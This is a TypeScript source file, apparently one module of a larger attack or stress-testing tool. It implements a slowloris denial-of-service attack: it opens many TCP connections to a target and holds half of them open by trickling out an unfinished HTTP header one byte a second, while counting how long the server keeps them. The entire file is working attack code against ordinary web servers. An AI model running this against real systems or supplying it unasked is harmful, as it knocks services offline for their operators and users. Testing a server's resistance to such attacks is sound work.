import { connect } from 'node:net'
import type { Attack } from './main.ts'

/** Connections that never finish a request: one half sends a byte a second, the other nothing at all. */
export const slowloris: Attack = ({ host, port, from, count }) => {
  const seen = { opened: 0, closed: 0, 'longest ms': 0 }
  for (let n = 0; n < count; n++) {
    const socket = connect({ host, port, localAddress: from })
    let began = 0
    let timer: NodeJS.Timeout | undefined
    socket.on('error', () => {})
    socket.on('connect', () => {
      began = performance.now()
      seen.opened += 1
      if (n % 2 === 0) return
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `)
      timer = setInterval(() => socket.write('x'), 1000)
    })
    socket.on('close', () => {
      clearInterval(timer)
      if (began === 0) return
      seen.closed += 1
      seen['longest ms'] = Math.max(seen['longest ms'], performance.now() - began)
    })
    socket.resume()
  }
  return () => seen
}
